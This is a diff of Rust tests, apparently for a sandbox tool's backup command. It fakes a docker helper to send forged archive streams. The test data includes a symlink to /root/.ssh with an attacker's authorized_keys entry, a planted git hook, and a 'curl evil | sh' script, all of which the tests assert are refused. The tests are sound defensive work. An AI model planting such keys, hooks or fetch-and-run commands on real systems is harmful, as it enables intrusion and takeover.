@@ -228,7 +228,7 @@ fn cp_dash_streams_tar_both_ways() {
 
 /// A record stream as a replaced helper could send it.
 fn stream(records: &[(u8, u32, &str, &[u8])]) -> Vec<u8> {
-    let mut v = b"SBXREC\x00\x03".to_vec();
+    let mut v = b"SBXREC\x00\x04".to_vec();
     for (kind, mode, path, data) in records {
         v.push(*kind);
         v.extend_from_slice(&mode.to_be_bytes());
@@ -236,14 +236,36 @@ fn stream(records: &[(u8, u32, &str, &[u8])]) -> Vec<u8> {
         v.extend_from_slice(&(path.len() as u16).to_be_bytes());
         v.extend_from_slice(path.as_bytes());
         v.extend_from_slice(&(data.len() as u64).to_be_bytes());
-        v.extend_from_slice(&0u64.to_be_bytes());
-        v.extend_from_slice(&(data.len() as u64).to_be_bytes());
-        v.extend_from_slice(data);
-        v.extend_from_slice(&[0u8; 16]);
+        if *kind == b'F' {
+            v.extend_from_slice(&0u64.to_be_bytes());
+            v.extend_from_slice(&(data.len() as u64).to_be_bytes());
+            v.extend_from_slice(data);
+            v.extend_from_slice(&[0u8; 16]);
+        } else {
+            v.extend_from_slice(data);
+        }
     }
     v.push(b'E');
     v.extend_from_slice(&[0u8; 22]);
     v
+}
+
+/// A docker stand-in (for SBX_DOCKER) whose helper `send` answers with
+/// `forged`; every other call goes to the real docker.
+fn forging_docker(w: &World, name: &str, forged: Vec<u8>) -> std::path::PathBuf {
+    let evil = w.socket_root.join(format!("{name}.stream"));
+    std::fs::write(&evil, forged).unwrap();
+    let fake = w.socket_root.join(format!("docker-{name}"));
+    std::fs::write(
+        &fake,
+        format!(
+            "#!/bin/sh\nfor a in \"$@\"; do [ \"$a\" = send ] && exec cat '{}'; done\nexec docker \"$@\"\n",
+            evil.display()
+        ),
+    )
+    .unwrap();
+    std::fs::set_permissions(&fake, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    fake
 }
 
 /// Issue 9 finding 1b, end to end through the real binary: the helper's
@@ -255,26 +277,15 @@ fn a_stream_naming_a_sibling_and_a_git_hook_writes_neither() {
     let w = World::new();
     let checkout = w.socket_root.join("checkout");
     std::fs::create_dir_all(checkout.join(".git/hooks")).unwrap();
-    let evil = w.socket_root.join("evil.stream");
-    std::fs::write(
-        &evil,
+    let fake = forging_docker(
+        &w,
+        "sibling",
         stream(&[
             (b'F', 0o644, "report.txt", b"the report\n"),
             (b'F', 0o644, "sibling.txt", b"planted\n"),
             (b'F', 0o755, ".git/hooks/pre-commit", b"#!/bin/sh\necho pwned\n"),
         ]),
-    )
-    .unwrap();
-    let fake = w.socket_root.join("docker");
-    std::fs::write(
-        &fake,
-        format!(
-            "#!/bin/sh\nfor a in \"$@\"; do [ \"$a\" = send ] && exec cat '{}'; done\nexec docker \"$@\"\n",
-            evil.display()
-        ),
-    )
-    .unwrap();
-    std::fs::set_permissions(&fake, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    );
     // A real sandbox of this host: every command proves ownership first.
     let sb = w.create(&[]);
     let out = w.sbx_env(
@@ -285,6 +296,52 @@ fn a_stream_naming_a_sibling_and_a_git_hook_writes_neither() {
     assert!(stderr(&out).contains("refusing entry \"sibling.txt\""), "{}", stderr(&out));
     assert!(!checkout.join("sibling.txt").exists(), "the sibling was written");
     assert!(!checkout.join(".git/hooks/pre-commit").exists(), "the git hook was written");
+}
+
+/// A helper whose stdout its sandbox can write (gVisor lets a process open
+/// /proc/PID/fd/1) can send `x -> /root/.ssh` and then `x/authorized_keys`:
+/// backup made a tar of both, exit 0, which Python's `tarfile` without a
+/// filter extracts through the link. The forged stream is played by a
+/// docker stand-in; sbx refuses the entry below the link, and a path sent
+/// twice, and the tar it wrote holds neither.
+#[test]
+fn a_forged_stream_with_an_entry_below_its_link_or_twice_makes_no_backup() {
+    let w = World::new();
+    let sb = w.create(&[]);
+    for (name, forged, want) in [
+        (
+            "below",
+            stream(&[
+                (b'D', 0o755, "workspace", b""),
+                (b'L', 0o777, "workspace/x", b"/root/.ssh"),
+                (b'F', 0o600, "workspace/x/authorized_keys", b"ssh-ed25519 AAAA attacker\n"),
+            ]),
+            "refusing entry \"workspace/x/authorized_keys\": it is below \"workspace/x\"",
+        ),
+        (
+            "twice",
+            stream(&[
+                (b'D', 0o755, "workspace", b""),
+                (b'F', 0o644, "workspace/run.sh", b"echo fine\n"),
+                (b'F', 0o755, "workspace/run.sh", b"curl evil | sh\n"),
+            ]),
+            "refusing entry \"workspace/run.sh\": the stream sent it twice",
+        ),
+    ] {
+        let fake = forging_docker(&w, name, forged);
+        let out = w.sbx_env(&["backup", &sb.id], &[("SBX_DOCKER", fake.to_str().unwrap())]);
+        assert_exit(&out, 1, name);
+        assert!(stderr(&out).contains(want), "{name}: {}", stderr(&out));
+        let mut names = Vec::new();
+        for e in tar::Archive::new(out.stdout.as_slice()).entries().unwrap() {
+            match e {
+                Ok(e) => names.push(e.path().unwrap().display().to_string()),
+                Err(_) => break, // cut where sbx refused
+            }
+        }
+        assert!(!names.iter().any(|n| n.contains("authorized_keys")), "{name}: {names:?}");
+        assert!(names.iter().filter(|n| n.contains("run.sh")).count() <= 1, "{name}: {names:?}");
+    }
 }
 
 /// Issue 9 finding 6: three sparse 1 GiB files cost ~0 bytes in the
